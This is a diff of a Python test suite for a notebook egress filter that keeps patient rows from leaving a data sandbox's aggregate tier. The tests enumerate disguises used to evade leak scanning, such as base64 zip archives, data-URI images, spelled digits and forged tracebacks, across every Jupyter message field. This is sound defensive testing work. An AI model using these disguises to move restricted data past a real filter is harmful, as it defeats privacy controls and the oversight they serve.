@@ -1,7 +1,10 @@
 """Notebook egress filter: what each kernel message may carry to the browser, tier by tier.
 
-Every test that withholds something also proves the values are gone from what is sent, from the notice
-and from the audit record, so removing a rule makes its test fail.
+In the aggregate tier the rule is turned around: nothing the kernel wrote leaves; what leaves is the
+platform's own (recomputed tables, recorded DP answers, the buyer's own line under an error, protocol
+messages rebuilt from platform values). Every test that withholds something proves that the kernel's
+bytes are gone from what is sent and from the audit record, for a family of disguises of the rows, so
+loosening a rule makes its test fail.
 """
 
 from __future__ import annotations
@@ -9,9 +12,11 @@ from __future__ import annotations
 import base64
 import copy
 import hashlib
+import io
 import json
 import statistics
 import time
+import zipfile
 from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
@@ -20,19 +25,21 @@ import pandas as pd
 import pytest
 
 import sandbox
-from sandbox.demo import CARD, generate_registry
-from sandbox.egress.leaks import FingerprintIndex
+from sandbox.demo import generate_registry
 from sandbox.notebooks.egress import (
+    DP_ANSWER_MIME,
+    TABLE_SPEC_MIME,
     MessageFilter,
     NotebookRules,
     Outcome,
-    html_tables,
+    Rendered,
 )
+from sandbox.notebooks.verified import safe_message
 from sandbox.policies import load_shipped_policies
 
-CELL = "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"
+CELL = "0f1e2d3c4b5a69788796a5b4c3d2e1f0"
+CODE = "import pandas as pd\ndf = pd.read_parquet('/data/x.parquet')\nprint(df.head())"
 QUASI = ["age", "sex", "site", "stenosis_pct", "stent_type", "embolic_protection", "length_of_stay"]
-Row = dict[str, Any]
 
 
 @pytest.fixture(scope="module")
@@ -54,16 +61,49 @@ def rows(frame: pd.DataFrame) -> pd.DataFrame:
     return keyed.loc[keyed.index.isin(unique)].reset_index()[list(frame.columns)].head(5)
 
 
-def make_filter(policy: dict[str, Any], tier: str, *, index: FingerprintIndex | None, registry: Path | None = None,
+class Platform:
+    """The platform side as the filter sees it: answers recorded by id, tables rendered by the platform."""
+
+    def __init__(self) -> None:
+        self.tables: list[Any] = []
+        self.answers = {"a" * 32: Rendered(text="count\n  120", html="<table><tr><td>120</td></tr></table>")}
+
+    def table(self, spec: Any, *, cell: str | None) -> Rendered:
+        self.tables.append(spec)
+        if not isinstance(spec, dict) or spec.get("index") != ["sex"]:
+            return Rendered(text="[sandbox] output withheld: table-spec\n", rules=("table-spec",))
+        return Rendered(text="sex  count\n  F   1000\n  M   1550", html="<table><tr><td>F</td><td>1000</td></tr>"
+                        "</table>", details={"table": "tables/count-by-sex.csv"})
+
+    def dp_answer(self, reference: Any) -> Rendered:
+        found = self.answers.get(reference.get("answer_id") if isinstance(reference, dict) else None)
+        return found or Rendered(text="[sandbox] output withheld: dp-answer\n", rules=("dp-answer",))
+
+
+def make_filter(policy: dict[str, Any], tier: str, *, platform: Platform | None = None,
                 **notebooks: Any) -> MessageFilter:
     body = copy.deepcopy(policy)
     body.setdefault("notebooks", {}).update(notebooks)
-    return MessageFilter(NotebookRules.from_policy(body, tier), index=index, dataset_parquet=registry, card=CARD)
+    return MessageFilter(NotebookRules.from_policy(body, tier), platform=platform, signing_key=b"k" * 32)
+
+
+def asked(session: MessageFilter, msg_type: str = "execute_request", *, code: str = CODE,
+          msg_id: str = CELL, **content: Any) -> MessageFilter:
+    """The client's request, as the bridge hands it to the filter before relaying it."""
+    header = {"msg_id": msg_id, "msg_type": msg_type, "session": "client", "username": "bob",
+              "date": "2026-01-01T00:00:00Z", "version": "5.3"}
+    session.remember("kernel-1", header, {"code": code, "silent": False, "store_history": True, **content})
+    return session
 
 
 @pytest.fixture
-def aggregate(policy: dict[str, Any], fingerprints: FingerprintIndex, registry: Path) -> MessageFilter:
-    return make_filter(policy, "aggregate", index=fingerprints, registry=registry)
+def platform() -> Platform:
+    return Platform()
+
+
+@pytest.fixture
+def aggregate(policy: dict[str, Any], platform: Platform) -> MessageFilter:
+    return asked(make_filter(policy, "aggregate", platform=platform))
 
 
 def message(msg_type: str, content: dict[str, Any], *, header: dict[str, Any] | None = None,
@@ -77,368 +117,295 @@ def message(msg_type: str, content: dict[str, Any], *, header: dict[str, Any] | 
             "msg_type": msg_type}
 
 
-def ids_in(text: str, rows: pd.DataFrame) -> list[str]:
-    return [pid for pid in rows["patient_id"] if pid in text]
+# -- the rows, disguised: every way a buyer reformatted them to pass the old leak scan --------------------------------
 
 
-def assert_nothing_leaves(outcome: Outcome, rows: pd.DataFrame) -> None:
-    """Neither the message sent, nor the audit record, nor a notice carries a patient id."""
+def disguises(rows: pd.DataFrame) -> dict[str, str]:
+    records = rows.to_dict("records")
+    plain = rows.to_string()
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as zipped:
+        zipped.writestr("rows.csv", rows.to_csv())
+    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + rows.to_csv().encode()).decode()
+    return {
+        "plain": plain,
+        "lower case": plain.lower(),
+        "separators": rows.to_csv(sep=";", index=False).replace(",", "|"),
+        "escapes": json.dumps(plain),
+        "numbers written differently": rows.to_string(float_format=lambda v: f"{v:.3e}"),
+        "spelled digits": plain.translate(str.maketrans("0123456789", "OIZEhSGTBg")),
+        "transposed": rows.T.to_string(),
+        "partial rows": "\n".join(" ".join(str(r[c]) for c in ["patient_id", "age", "site"]) for r in records),
+        "renamed": rows.rename(columns=lambda c: c[::-1]).to_string(),
+        "zipped": base64.b64encode(archive.getvalue()).decode(),
+        "data URI": f'<img src="data:image/png;base64,{png}">',
+        "markdown": rows.to_markdown() if hasattr(rows, "to_markdown") else plain,
+        "latex": "$$" + rows.to_latex() + "$$",
+        "json": rows.to_json(orient="records"),
+        "traceback": "Traceback (most recent call last):\n" + "\n".join(f'  File "{r["patient_id"]}", line 1'
+                                                                         for r in records),
+    }
+
+
+def kernel_bytes_gone(outcome: Outcome, payload: str, rows: pd.DataFrame) -> None:
+    """Neither the message sent nor the audit record carries the kernel's payload, or any id of the rows."""
     sent = json.dumps(outcome.message, default=str) if outcome.message else ""
-    assert not ids_in(sent, rows), f"patient ids left in the replacement: {ids_in(sent, rows)}"
-    audit = json.dumps(outcome.audit)
-    assert not ids_in(audit, rows), f"patient ids in the audit record: {ids_in(audit, rows)}"
-    for _, row in rows.iterrows():
-        printed = "  ".join(str(row[c]) for c in QUASI)
-        assert printed not in sent and printed not in audit
+    audit = json.dumps(outcome.audit, default=str)
+    for where, text in (("the message sent", sent), ("the audit record", audit)):
+        ids = [pid for pid in rows["patient_id"] if pid in text]
+        assert not ids, f"patient ids reached {where}: {ids}"
+        snippet = payload.strip()[:24]
+        assert len(snippet) < 8 or snippet not in text, f"the kernel's bytes reached {where}: {snippet!r}"
 
 
-def notice_of(outcome: Outcome) -> str:
-    assert outcome.message is not None, f"expected a replacement, got {outcome.action}"
-    return json.dumps(outcome.message["content"])
-
-
-# -- aggregate: rows in any field are withheld -----------------------------------------------------------------------
-
-
-def test_rows_printed_in_a_stream_are_withheld(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
-    printed = rows.to_string()
-    assert ids_in(printed, rows), "the test must print ids"
-    outcome = aggregate.outgoing("iopub", message("stream", {"name": "stdout", "text": printed}))
-    assert outcome.action == "replace" and outcome.rules == ("leak-scan",)
-    assert outcome.message is not None
-    content = outcome.message["content"]
-    assert content["name"] == "stdout" and "leak-scan" in content["text"] and "audit log" in content["text"]
-    assert outcome.message["header"]["msg_id"] == "k-stream-1" and outcome.message["parent_header"]["msg_id"] == CELL
-    assert_nothing_leaves(outcome, rows)
-
-
-def test_rows_without_ids_in_a_stream_are_withheld(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
-    printed = rows[QUASI].to_csv(index=False)
-    outcome = aggregate.outgoing("iopub", message("stream", {"name": "stderr", "text": printed}))
-    assert outcome.action == "replace" and "leak-scan" in outcome.rules
-    assert outcome.message is not None and outcome.message["content"]["name"] == "stderr"
-    assert_nothing_leaves(outcome, rows)
-
-
-def test_rows_in_a_dataframe_bundle_are_withheld_in_every_representation(aggregate: MessageFilter,
-                                                                        rows: pd.DataFrame) -> None:
-    content = {"data": {"text/plain": repr(rows), "text/html": rows._repr_html_()}, "metadata": {},
-               "execution_count": 7}
-    outcome = aggregate.outgoing("iopub", message("execute_result", content))
-    assert outcome.action == "replace" and "leak-scan" in outcome.rules
-    assert outcome.message is not None
-    replaced = outcome.message["content"]
-    assert list(replaced["data"]) == ["text/plain"] and "leak-scan" in replaced["data"]["text/plain"]
-    assert replaced["execution_count"] == 7 and replaced["metadata"] == {}
-    assert not outcome.held, "rows must not go to the review queue either"
-    assert_nothing_leaves(outcome, rows)
-
-
-def test_rows_in_an_error_traceback_are_withheld(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
-    # IPython colours tracebacks: the codes must not hide the values they surround.
-    coloured = [" ".join(f"\x1b[0;32m{row[c]}\x1b[0m" for c in ["patient_id", *QUASI]) for _, row in rows.iterrows()]
-    traceback = ["\x1b[0;31mValueError\x1b[0m Traceback", *coloured]
-    content = {"ename": "ValueError", "evalue": "bad rows", "traceback": traceback}
-    outcome = aggregate.outgoing("iopub", message("error", content))
-    assert outcome.action == "replace" and "leak-scan" in outcome.rules
-    assert outcome.message is not None
-    replaced = outcome.message["content"]
-    assert replaced["ename"] == "OutputWithheld" and "leak-scan" in replaced["evalue"]
-    assert replaced["traceback"] == [replaced["evalue"]]
-    assert_nothing_leaves(outcome, rows)
-
-
-def _dump(rows: pd.DataFrame) -> str:
-    return rows.to_string()
-
-
-FIELDS: dict[str, Any] = {
-    "inspect_reply": ("shell", lambda dump: {"status": "ok", "found": True, "data": {"text/plain": dump},
-                                             "metadata": {}},
-                      lambda c: c["found"] is True and list(c["data"]) == ["text/plain"]),
-    "complete_reply": ("shell", lambda dump: {"status": "ok", "matches": dump.splitlines(), "cursor_start": 0,
-                                              "cursor_end": 3, "metadata": {}},
-                       lambda c: c["matches"] == [] and c["cursor_end"] == 3),
-    "history_reply": ("shell", lambda dump: {"status": "ok", "history": [[1, n, line] for n, line in
-                                                                           enumerate(dump.splitlines())]},
-                      lambda c: c["history"] == []),
-    "input_request": ("stdin", lambda dump: {"prompt": dump, "password": False},
-                      lambda c: "leak-scan" in c["prompt"] and c["password"] is False),
-    "execute_input": ("iopub", lambda dump: {"code": f"print('''{dump}''')", "execution_count": 4},
-                      lambda c: "leak-scan" in c["code"] and c["execution_count"] == 4),
+CARRIERS: dict[str, tuple[str, Any]] = {
+    "stream": ("iopub", lambda p: {"name": "stdout", "text": p}),
+    "stderr": ("iopub", lambda p: {"name": "stderr", "text": p}),
+    "display text/plain": ("iopub", lambda p: {"data": {"text/plain": p}, "metadata": {}}),
+    "display text/html": ("iopub", lambda p: {"data": {"text/html": f"<pre>{p}</pre>"}, "metadata": {}}),
+    "display text/markdown": ("iopub", lambda p: {"data": {"text/markdown": p}, "metadata": {}}),
+    "display text/latex": ("iopub", lambda p: {"data": {"text/latex": p}, "metadata": {}}),
+    "display application/json": ("iopub", lambda p: {"data": {"application/json": {"rows": p}}, "metadata": {}}),
+    "display metadata": ("iopub", lambda p: {"data": {"text/plain": "ok"}, "metadata": {"note": p}}),
+    "display transient": ("iopub", lambda p: {"data": {"text/plain": "ok"}, "metadata": {},
+                                              "transient": {"display_id": p}}),
+    "execute_result": ("iopub", lambda p: {"data": {"text/plain": p}, "metadata": {}, "execution_count": 3}),
+    "update_display_data": ("iopub", lambda p: {"data": {"text/plain": p}, "metadata": {},
+                                                "transient": {"display_id": "d1"}}),
+    "error evalue": ("iopub", lambda p: {"ename": "ValueError", "evalue": p, "traceback": []}),
+    "error traceback": ("iopub", lambda p: {"ename": "ValueError", "evalue": "x", "traceback": p.splitlines()}),
+    "error ename": ("iopub", lambda p: {"ename": p[:40], "evalue": "x", "traceback": []}),
+    "execute_reply payload": ("shell", lambda p: {"status": "ok", "execution_count": 1, "user_expressions": {},
+                                                  "payload": [{"source": "page", "data": {"text/plain": p}}]}),
+    "execute_reply user_expressions": ("shell", lambda p: {"status": "ok", "execution_count": 1, "payload": [],
+                                                           "user_expressions": {"x": {"status": "ok", "data": {
+                                                               "text/plain": p}, "metadata": {}}}}),
+    "execute_reply error": ("shell", lambda p: {"status": "error", "execution_count": 1, "ename": "KeyError",
+                                                "evalue": p, "traceback": [p], "user_expressions": {},
+                                                "payload": []}),
+    "inspect_reply": ("shell", lambda p: {"status": "ok", "found": True, "data": {"text/plain": p},
+                                          "metadata": {}}),
+    "complete_reply": ("shell", lambda p: {"status": "ok", "matches": p.splitlines(), "cursor_start": 0,
+                                           "cursor_end": 3, "metadata": {"_jupyter_types_experimental": p}}),
+    "history_reply": ("shell", lambda p: {"status": "ok", "history": [[1, 1, line] for line in p.splitlines()]}),
+    "input_request": ("stdin", lambda p: {"prompt": p, "password": False}),
+    "execute_input": ("iopub", lambda p: {"code": p, "execution_count": 4}),
+    "kernel_info_reply": ("shell", lambda p: {"status": "ok", "banner": p, "protocol_version": "5.3",
+                                              "language_info": {"name": p}}),
+    "is_complete_reply": ("shell", lambda p: {"status": "incomplete", "indent": p}),
+    "comm_msg": ("iopub", lambda p: {"comm_id": "c1", "data": {"rows": p}}),
+    "status": ("iopub", lambda p: {"execution_state": p}),
+    "status extra": ("iopub", lambda p: {"execution_state": "idle", "note": p}),
+    "unknown type": ("iopub", lambda p: {"rows": p}),
 }
+TYPES = {"stderr": "stream", "display text/plain": "display_data", "display text/html": "display_data",
+         "display text/markdown": "display_data", "display text/latex": "display_data",
+         "display application/json": "display_data", "display metadata": "display_data",
+         "display transient": "display_data", "error evalue": "error", "error traceback": "error",
+         "error ename": "error", "execute_reply payload": "execute_reply",
+         "execute_reply user_expressions": "execute_reply", "execute_reply error": "execute_reply",
+         "status extra": "status", "unknown type": "custom_rows"}
 
 
-@pytest.mark.parametrize("msg_type", list(FIELDS))
-def test_rows_in_reply_fields_are_withheld(aggregate: MessageFilter, rows: pd.DataFrame, msg_type: str) -> None:
-    channel, build, replaced_well = FIELDS[msg_type]
-    outcome = aggregate.outgoing(channel, message(msg_type, build(_dump(rows))))
-    assert outcome.action == "replace" and "leak-scan" in outcome.rules, outcome
-    assert outcome.message is not None and replaced_well(outcome.message["content"]), outcome.message["content"]
-    assert outcome.audit is not None and outcome.audit["msg_type"] == msg_type
-    assert_nothing_leaves(outcome, rows)
-
-
-def test_only_the_tainted_user_expression_is_withheld(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
-    content = {"status": "ok", "execution_count": 2, "payload": [
-        {"source": "page", "data": {"text/plain": _dump(rows)}, "start": 0},
-        {"source": "page", "data": {"text/plain": "Signature: f(x)"}, "start": 0}],
-        "user_expressions": {"rows": {"status": "ok", "data": {"text/plain": _dump(rows)}, "metadata": {}},
-                             "shape": {"status": "ok", "data": {"text/plain": "(2550, 11)"}, "metadata": {}}}}
-    outcome = aggregate.outgoing("shell", message("execute_reply", content))
-    assert outcome.action == "replace" and "leak-scan" in outcome.rules
-    assert outcome.message is not None
-    replaced = outcome.message["content"]
-    assert replaced["user_expressions"]["rows"]["ename"] == "OutputWithheld"
-    assert replaced["user_expressions"]["shape"] == content["user_expressions"]["shape"]
-    assert replaced["payload"] == [content["payload"][1]], "the tainted page goes, the clean one stays"
-    assert replaced["status"] == "ok" and replaced["execution_count"] == 2
-    assert_nothing_leaves(outcome, rows)
-
-
-def test_a_forged_error_reply_with_rows_is_withheld(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
-    content = {"status": "error", "execution_count": 3, "ename": "KeyError", "evalue": _dump(rows),
-               "traceback": [], "user_expressions": {}, "payload": []}
-    outcome = aggregate.outgoing("shell", message("execute_reply", content))
-    assert outcome.action == "replace" and "leak-scan" in outcome.rules
-    assert outcome.message is not None and outcome.message["content"]["ename"] == "OutputWithheld"
-    assert outcome.message["content"]["status"] == "error"
-    assert_nothing_leaves(outcome, rows)
+@pytest.mark.parametrize("carrier", list(CARRIERS))
+def test_no_disguise_of_the_rows_leaves_an_aggregate_kernel_in_any_field(aggregate: MessageFilter,
+                                                                         rows: pd.DataFrame, carrier: str) -> None:
+    channel, build = CARRIERS[carrier]
+    msg_type = TYPES.get(carrier, carrier)
+    for name, payload in disguises(rows).items():
+        outcome = aggregate.outgoing(channel, message(msg_type, build(payload)))
+        assert outcome.action in ("replace", "drop"), (carrier, name, outcome.action)
+        kernel_bytes_gone(outcome, payload, rows)
 
 
 @pytest.mark.parametrize("where", ["metadata", "header", "parent_header"])
-def test_rows_in_a_field_that_cannot_carry_a_notice_drop_the_message(aggregate: MessageFilter, rows: pd.DataFrame,
-                                                                     where: str) -> None:
-    dump = _dump(rows)
-    tainted = {"metadata": {"metadata": {"note": dump}}, "header": {"header": {"username": dump}},
-               "parent_header": {"parent": {"note": dump}}}[where]
-    outcome = aggregate.outgoing("iopub", message("stream", {"name": "stdout", "text": "hello\n"}, **tainted))
-    assert outcome.action == "drop" and outcome.message is None and "leak-scan" in outcome.rules
-    assert outcome.audit is not None and outcome.audit["cell"] is None, "a tainted envelope's ids are not audited"
-    assert_nothing_leaves(outcome, rows)
+def test_the_kernels_envelope_never_leaves(aggregate: MessageFilter, rows: pd.DataFrame, where: str) -> None:
+    dump = rows.to_string()
+    tainted = {"metadata": {"metadata": {"note": dump}}, "header": {"header": {"username": dump, "msg_id": dump}},
+               "parent_header": {"parent": {"note": dump, "username": dump}}}[where]
+    for msg_type, content in (("status", {"execution_state": "idle"}), ("execute_reply", {
+            "status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []})):
+        outcome = aggregate.outgoing("iopub", message(msg_type, content, **tainted))
+        assert outcome.action == "replace" and outcome.message is not None
+        kernel_bytes_gone(outcome, dump, rows)
+        assert outcome.message["metadata"] == {} and outcome.message["header"]["username"] == "sandbox"
+        assert outcome.message["parent_header"]["msg_id"] == CELL, "the client still matches it to its request"
+        assert outcome.message["parent_header"]["username"] == "bob", "the parent is the client's own header"
 
 
-def test_a_tainted_status_becomes_a_clean_status(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
-    msg = message("status", {"execution_state": "idle", "extra": _dump(rows)}, header={"username": _dump(rows)})
-    outcome = aggregate.outgoing("iopub", msg)
-    assert outcome.action == "replace" and "leak-scan" in outcome.rules
+def test_only_known_states_pass_and_status_is_rebuilt(aggregate: MessageFilter) -> None:
+    for state in ("busy", "idle", "starting"):
+        outcome = aggregate.outgoing("iopub", message("status", {"execution_state": state, "extra": "P0001234"}))
+        assert outcome.action == "replace" and outcome.message is not None
+        assert outcome.message["content"] == {"execution_state": state}
+    for state in ("P0001234,68,F", "IDLE", "restarting", "dead", 7, None):
+        assert aggregate.outgoing("iopub", message("status", {"execution_state": state})).action == "drop", state
+
+
+def test_execution_counts_are_the_platforms(aggregate: MessageFilter) -> None:
+    asked(aggregate, msg_id="second0000000000000000000000000", code="x = 1")
+    for msg_type, content in (("execute_input", {"code": "P0001234", "execution_count": 1234567}),
+                              ("execute_reply", {"status": "ok", "execution_count": 1234567,
+                                                 "user_expressions": {}, "payload": []})):
+        msg = message(msg_type, content, parent={"msg_id": "second0000000000000000000000000"})
+        outcome = aggregate.outgoing("shell", msg)
+        assert outcome.message is not None and outcome.message["content"]["execution_count"] == 2
+    echoed = aggregate.outgoing("iopub", message("execute_input", {"code": "P0001234", "execution_count": 1}))
+    assert echoed.message is not None
+    assert echoed.message["content"]["code"] == CODE, "the client's code, not the kernel's"
+
+
+def test_messages_for_requests_the_client_never_sent_are_dropped(aggregate: MessageFilter) -> None:
+    stray = message("stream", {"name": "stdout", "text": "hello"}, parent={"msg_id": "not-a-client-request"})
+    assert aggregate.outgoing("iopub", stray).action == "drop"
+
+
+def test_one_notice_per_cell_for_printed_output(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
+    first = aggregate.outgoing("iopub", message("stream", {"name": "stdout", "text": rows.to_string()}))
+    assert first.action == "replace" and first.message is not None
+    assert "notebook-unverified" in first.message["content"]["text"]
+    assert "export it for review" in first.message["content"]["text"]
+    again = aggregate.outgoing("iopub", message("stream", {"name": "stdout", "text": "more"}))
+    assert again.action == "drop" and again.audit is not None and again.audit["cell"] == CELL
+
+
+# -- errors ------------------------------------------------------------------------------------------------------------
+
+
+def test_an_error_shows_its_type_and_the_buyers_own_line(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
+    pid = rows["patient_id"].iloc[0]
+    traceback = ["\x1b[0;31mKeyError\x1b[0m Traceback", f"Cell \x1b[0;32mIn[7], line 2\x1b[0m\n----> 2 {pid}",
+                 f"KeyError: '{pid}'"]
+    outcome = aggregate.outgoing("iopub", message("error", {"ename": "KeyError", "evalue": f"'{pid}'",
+                                                            "traceback": traceback}))
     assert outcome.message is not None
-    assert outcome.message["content"] == {"execution_state": "idle"}
-    assert outcome.message["header"]["msg_type"] == "status"
-    assert outcome.message["parent_header"]["msg_id"] == CELL, "the client still matches it to its request"
-    assert_nothing_leaves(outcome, rows)
+    content = outcome.message["content"]
+    assert content["ename"] == "KeyError" and content["evalue"] == "(withheld)"
+    assert "line 2: df = pd.read_parquet('/data/x.parquet')" in content["traceback"][0]
+    kernel_bytes_gone(outcome, pid, rows)
 
 
-def test_a_clean_status_passes_without_an_audit_record(aggregate: MessageFilter) -> None:
-    outcome = aggregate.outgoing("iopub", message("status", {"execution_state": "busy"}))
-    assert outcome == Outcome("pass", None, (), (), None)
-
-
-def test_rows_in_an_unknown_message_type_drop_it(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
-    outcome = aggregate.outgoing("iopub", message("custom_rows", {"rows": rows.to_dict("records")}))
-    assert outcome.action == "drop" and "leak-scan" in outcome.rules
-    assert outcome.audit is not None and outcome.audit["msg_type"] == "unknown"
-    assert_nothing_leaves(outcome, rows)
-
-
-def test_rows_split_by_inline_markup_are_still_found(aggregate: MessageFilter, rows: pd.DataFrame) -> None:
-    def split(value: Any) -> str:  # the browser shows "7<b></b>3" as 73, and "&#80;" as P
-        text = str(value).replace("P", "&#80;")
-        return f"{text[:1]}<b></b>{text[1:]}"
-
-    spliced = "".join(f"<p>{' '.join(split(row[c]) for c in ['patient_id', *QUASI])}</p>"
-                      for _, row in rows.iterrows())
-    outcome = aggregate.outgoing("iopub", message("display_data", {"data": {"text/html": spliced}, "metadata": {}}))
-    assert outcome.action == "replace" and "leak-scan" in outcome.rules
-    assert_nothing_leaves(outcome, rows)
-
-
-def test_without_an_index_aggregate_outputs_are_withheld(policy: dict[str, Any]) -> None:
-    unscanned = make_filter(policy, "aggregate", index=None)
-    outcome = unscanned.outgoing("iopub", message("stream", {"name": "stdout", "text": "hello\n"}))
-    assert outcome.action == "replace" and outcome.rules == ("leak-scan-unavailable",)
-    assert "leak-scan-unavailable" in notice_of(outcome)
-    assert unscanned.outgoing("iopub", message("status", {"execution_state": "idle"})).action == "pass"
-
-
-# -- aggregate: legitimate outputs pass unchanged --------------------------------------------------------------------
-
-
-def test_aggregates_and_plain_prints_pass_unchanged(aggregate: MessageFilter, frame: pd.DataFrame) -> None:
-    mean = f"mean age {frame['age'].mean():.2f}, mean stay {frame['length_of_stay'].mean():.2f}\n"
-    for text in (mean, "hello\n", frame["site"].value_counts().to_string()):
-        msg = message("stream", {"name": "stdout", "text": text})
-        outcome = aggregate.outgoing("iopub", msg)
-        assert outcome.action == "pass" and outcome.message is None and outcome.rules == (), (text, outcome)
-        assert outcome.audit is not None and outcome.audit["action"] == "pass"
-
-
-def test_a_crosstab_with_every_cell_at_least_ten_passes_unchanged(aggregate: MessageFilter,
-                                                                  frame: pd.DataFrame) -> None:
-    table = pd.crosstab(frame["site"], frame["stent_type"])
-    assert table.to_numpy().min() >= 10
-    content = {"data": {"text/plain": repr(table), "text/html": table._repr_html_()}, "metadata": {},
-               "execution_count": 5}
-    outcome = aggregate.outgoing("iopub", message("execute_result", content))
-    assert outcome.action == "pass" and outcome.rules == () and not outcome.held, outcome
-
-
-def test_a_crosstab_with_a_cell_of_three_is_blocked_naming_min_cell_count(aggregate: MessageFilter) -> None:
-    table = pd.DataFrame({"F": [3, 25], "M": [40, 52]},
-                         index=pd.Index(["beijing-xuanwu", "chengdu-west-china"], name="site"))
-    table.columns.name = "sex"
-    content = {"data": {"text/plain": repr(table), "text/html": table._repr_html_()}, "metadata": {},
-               "execution_count": 5}
-    outcome = aggregate.outgoing("iopub", message("execute_result", content))
-    assert outcome.action == "replace" and "min-cell-count" in outcome.rules
+@pytest.mark.parametrize("claimed", ["line 4", "line 0", "line 99999999", "line -1", "line P0001234"])
+def test_a_line_number_outside_the_cell_is_not_shown(aggregate: MessageFilter, claimed: str) -> None:
+    outcome = aggregate.outgoing("iopub", message("error", {"ename": "ValueError", "evalue": "v",
+                                                            "traceback": [f"Cell In[1], {claimed}"]}))
     assert outcome.message is not None
-    data = outcome.message["content"]["data"]
-    assert list(data) == ["text/plain"] and "min-cell-count" in data["text/plain"], "every representation goes"
-    assert "3" not in data["text/plain"].replace("[sandbox]", ""), "the notice quotes no cell"
-    assert outcome.audit is not None and outcome.audit["rules"] == ["min-cell-count"]
+    assert outcome.message["content"]["traceback"][0].startswith("ValueError at the cell"), outcome.message
 
 
-def test_a_small_count_in_a_styler_table_is_blocked(aggregate: MessageFilter) -> None:
-    table = pd.DataFrame({"count": [1234, 4]}, index=pd.Index(["F", "M"], name="sex"))
-    styled = table.style.format("{:,}")._repr_html_()
-    assert "1,234" in styled
-    outcome = aggregate.outgoing("iopub", message("display_data", {"data": {"text/html": styled}, "metadata": {}}))
-    assert outcome.action == "replace" and "min-cell-count" in outcome.rules
+@pytest.mark.parametrize("ename", ["P0001234Error", "valueerror", "Value Error", "KeyError\nP0001234", "", 7])
+def test_an_exception_type_the_kernel_named_shows_as_exception(aggregate: MessageFilter, ename: Any) -> None:
+    outcome = aggregate.outgoing("iopub", message("error", {"ename": ename, "evalue": "v", "traceback": []}))
+    assert outcome.message is not None and outcome.message["content"]["ename"] == "Exception"
 
 
-def test_a_small_count_in_a_json_table_is_blocked(aggregate: MessageFilter) -> None:
-    records = [{"site": "beijing-xuanwu", "n": 120}, {"site": "chengdu-west-china", "n": 2}]
-    outcome = aggregate.outgoing("iopub", message("display_data", {"data": {"application/json": records,
-                                                                             "text/plain": "records"},
+# -- what the platform made leaves -------------------------------------------------------------------------------------
+
+
+def test_a_table_spec_is_replaced_by_the_platforms_rendering(aggregate: MessageFilter, platform: Platform) -> None:
+    kernel_html = "<table><tr><td>P0001234</td></tr></table>"
+    spec = {"index": ["sex"], "columns": [], "values": None, "aggfunc": "count", "filters": []}
+    content = {"data": {TABLE_SPEC_MIME: spec, "text/plain": "P0001234", "text/html": kernel_html,
+                        "image/png": "iVBORw0KGgo="}, "metadata": {"note": "P0001234"},
+               "transient": {"display_id": "P0001234"}}
+    deferred = aggregate.outgoing("iopub", message("display_data", content))
+    assert deferred.action == "defer" and deferred.work is not None, "the recomputation runs off the event loop"
+    outcome = deferred.work()
+    assert platform.tables == [spec]
+    assert outcome.action == "replace" and outcome.message is not None
+    shown = outcome.message["content"]
+    assert set(shown["data"]) == {"text/plain", "text/html"}, "every mime type of the kernel's bundle goes"
+    assert shown["data"]["text/plain"].startswith("sex  count")
+    assert "P0001234" not in json.dumps(outcome.message, default=str)
+    assert "transient" not in shown
+    assert outcome.audit is not None and outcome.audit["table"] == "tables/count-by-sex.csv"
+    assert aggregate.signed(shown["data"], shown["metadata"]), "a saved notebook may keep the platform's table"
+    assert not aggregate.signed({**shown["data"], "text/plain": "P0001234"}, shown["metadata"])
+
+
+def test_an_invalid_table_spec_is_a_notice(aggregate: MessageFilter) -> None:
+    deferred = aggregate.outgoing("iopub", message("display_data", {"data": {TABLE_SPEC_MIME: {"index": ["P01"]}},
                                                                     "metadata": {}}))
-    assert outcome.action == "replace" and "min-cell-count" in outcome.rules
+    assert deferred.work is not None
+    outcome = deferred.work()
+    assert outcome.message is not None and outcome.rules == ("table-spec",)
+    assert outcome.message["content"]["data"] == {"text/plain": "[sandbox] output withheld: table-spec\n"}
 
 
-def test_an_unverifiable_table_goes_to_review(aggregate: MessageFilter, frame: pd.DataFrame) -> None:
-    means = frame.groupby("site")[["age"]].mean().rename(columns={"age": "mean age"})
-    content = {"data": {"text/plain": repr(means), "text/html": means._repr_html_()}, "metadata": {}}
-    outcome = aggregate.outgoing("iopub", message("display_data", content))
-    assert outcome.action == "replace" and "magnitude-unverified" in outcome.rules
-    assert [(held.mime, held.rules) for held in outcome.held] == [("text/html", ("magnitude-unverified",))]
-    assert outcome.held[0].data == content["data"]["text/html"].encode()
-    assert outcome.held[0].name.startswith("cell-0f1e2d3c-") and outcome.held[0].name.endswith(".html")
-    assert "held for review" in notice_of(outcome) and "magnitude-unverified" in notice_of(outcome)
-    assert "beijing" not in notice_of(outcome)
+def test_a_recorded_dp_answer_passes_and_an_unknown_id_does_not(aggregate: MessageFilter) -> None:
+    known = aggregate.outgoing("iopub", message("display_data", {"data": {
+        DP_ANSWER_MIME: {"answer_id": "a" * 32}, "text/plain": "P0001234"}, "metadata": {}}))
+    assert known.action == "replace" and known.message is not None and known.rules == ()
+    assert known.message["content"]["data"]["text/plain"] == "count\n  120"
+    forged = aggregate.outgoing("iopub", message("display_data", {"data": {
+        DP_ANSWER_MIME: {"answer_id": "P0001234"}, "text/plain": "P0001234"}, "metadata": {}}))
+    assert forged.rules == ("dp-answer",) and "P0001234" not in json.dumps(forged.message, default=str)
 
 
-def test_html_tables_read_pandas_layouts(frame: pd.DataFrame) -> None:
-    nested = frame.groupby(["site", "sex"]).size().to_frame("n")
-    wide = frame.groupby(["site", "stent_type"]).size().unstack()
-    signed = pd.DataFrame({"delta": ["-1,234", "\u221256", "7"]}, index=["a", "b", "c"])
-    [long_form] = html_tables(nested._repr_html_())
-    assert long_form.column_names == ["site", "sex", "n"]
